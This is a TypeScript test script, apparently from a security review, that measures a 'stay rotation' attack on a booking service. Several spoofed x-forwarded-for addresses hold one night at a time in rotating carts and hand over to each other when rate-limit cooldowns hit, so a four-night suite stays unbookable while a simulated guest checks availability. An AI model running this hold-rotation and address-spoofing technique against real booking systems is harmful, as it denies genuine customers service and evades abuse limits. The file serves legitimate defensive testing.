// The stay rotation (review of issue 41, item 2), measured: K addresses keep a four-night stay of the
// one-unit Boathouse Loft Suite unbookable by holding one of its nights at a time, a cart per night. Just
// before an address's cart expires it holds the next night in a new cart and then ends the old one, so the
// stay is never whole; refused (its cooldown), it hands over to an address that is not cooling down, which
// holds a night before the old cart is ended. A guest looks for the whole stay once a second.

const LOFT = 2;

/** What one run of the stay rotation counted. */
export interface StayRun {
  looks: number;
  free: number;
  holds: number;
  refusedCooldown: number;
}

interface Json {
  item?: { rate?: { slip?: string; available?: number } };
  booking?: { session?: { id: string; expires: number } };
  request?: { error?: { id: string; data?: { retry_after?: number } } };
}

/** One address of the attack: its cart, the night it holds, until when, and until when it is cooled. */
interface Holder {
  ip: string;
  cart?: string;
  night: number;
  heldUntilMs?: number;
  cooledUntilMs: number;
}

const sleep = (ms: number) => new Promise((wake) => setTimeout(wake, ms));

/** Runs the stay rotation against a started runner at `base` for `seconds`. */
export async function runStayRotation(options: {
  base: string;
  k: number;
  seconds: number;
  /** A cart's hold (ms): an address moves on this long before its cart would expire. */
  marginMs: number;
  tickMs: number;
  /** The stay's nights (`YYYYMMDD`, in order) and its departure date. */
  nights: string[];
  checkout: string;
}): Promise<StayRun> {
  const run: StayRun = { looks: 0, free: 0, holds: 0, refusedCooldown: 0 };
  const call = async (ip: string, path: string, body?: string): Promise<Json> => {
    const response = await fetch(`${options.base}/${path}`, {
      method: body === undefined ? 'GET' : 'POST',
      headers: {
        'x-forwarded-for': ip,
        ...(body === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded' }),
      },
      ...(body === undefined ? {} : { body }),
    });
    return (await response.json()) as Json;
  };
  const holders: Holder[] = Array.from({ length: options.k }, (_, index) => ({
    ip: `203.0.${113 + (index >> 8)}.${index & 255}`,
    night: index % options.nights.length,
    cooledUntilMs: 0,
  }));

  /** A holder holds one of the stay's nights in a new cart, trying them from `from` on; false if refused. */
  const take = async (holder: Holder, from: number): Promise<boolean> => {
    for (let step = 0; step < options.nights.length; step += 1) {
      const night = (from + step) % options.nights.length;
      const rated = await call(holder.ip, `item/${LOFT}?date=${options.nights[night]}&param[adults]=1`);
      const slip = rated.item?.rate?.slip;
      if (!slip) continue;
      const added = await call(holder.ip, 'booking/session', `slip[]=${encodeURIComponent(slip)}`);
      const session = added.booking?.session;
      if (session) {
        Object.assign(holder, { cart: session.id, night, heldUntilMs: session.expires * 1000 });
        run.holds += 1;
        return true;
      }
      const wait = added.request?.error?.data?.retry_after;
      if (added.request?.error?.id === 'hold_limit' && wait !== undefined) {
        holder.cooledUntilMs = Date.now() + wait * 1000;
        run.refusedCooldown += 1;
        return false;
      }
    }
    return false;
  };
  const end = async (ip: string, cart: string) => {
    await call(ip, 'booking/session/end', `session_id=${cart}`);
  };

  const endAt = Date.now() + options.seconds * 1000;
  const attack = (async () => {
    while (Date.now() < endAt) {
      const now = Date.now();
      for (const holder of holders) {
        if (holder.heldUntilMs !== undefined && holder.heldUntilMs <= now) {
          holder.cart = undefined;
          holder.heldUntilMs = undefined;
        }
      }
      const due = holders.filter(
        (entry) => entry.heldUntilMs !== undefined && entry.heldUntilMs - now < options.marginMs,
      );
      for (const holder of due) {
        const old = holder.cart as string;
        const next = { ...holder };
        // The next night in a new cart; refused, another address that is not cooling down holds one.
        if (await take(next, holder.night + 1)) Object.assign(holder, next);
        else {
          holder.cooledUntilMs = next.cooledUntilMs;
          holder.cart = undefined;
          holder.heldUntilMs = undefined;
          for (const other of holders) {
            if (other.heldUntilMs === undefined && other.cooledUntilMs <= Date.now()) {
              if (await take(other, holder.night + 1)) break;
            }
          }
        }
        await end(holder.ip, old);
      }
      // Nobody holds a night (all were cooling down): the first address free of its cooldown starts again.
      if (holders.every((entry) => entry.heldUntilMs === undefined)) {
        for (const holder of holders) {
          if (holder.cooledUntilMs <= Date.now() && (await take(holder, holder.night))) break;
        }
      }
      await sleep(options.tickMs);
    }
  })();

  const guest = (async () => {
    await sleep(1_000);
    const stay = `start_date=${options.nights[0]}&end_date=${options.checkout}&param[adults]=1`;
    while (Date.now() < endAt) {
      const looked = Date.now();
      const body = await call('198.18.0.1', `item/${LOFT}?${stay}`);
      run.looks += 1;
      if ((body.item?.rate?.available ?? 0) > 0) run.free += 1;
      await sleep(Math.max(0, 1_000 - (Date.now() - looked)));
    }
  })();
  await Promise.all([attack, guest]);
  return run;
}
